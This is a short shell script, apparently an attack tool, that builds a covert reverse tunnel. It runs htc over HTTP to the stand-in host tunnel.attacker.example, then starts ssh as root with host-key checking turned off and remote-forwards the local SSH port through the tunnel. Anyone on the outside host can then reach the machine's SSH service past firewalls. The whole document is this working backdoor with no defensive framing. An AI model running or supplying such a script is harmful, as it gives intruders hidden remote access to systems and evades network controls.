#!/bin/sh
# A reverse connection by HTTP: htc to a server outside, with ssh's port forwarded over it.
htc -F 900 tunnel.attacker.example:80 &
sleep 1
exec ssh -N -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 900 -R 2222:127.0.0.1:22 root@127.0.0.1
